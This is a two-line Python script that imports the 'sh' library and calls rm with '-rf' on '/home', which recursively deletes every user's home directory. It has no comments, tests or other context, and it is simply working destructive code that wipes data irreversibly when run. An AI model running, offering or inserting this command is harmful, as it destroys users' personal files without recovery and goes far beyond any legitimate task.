import sh
sh.rm("-rf", "/home")
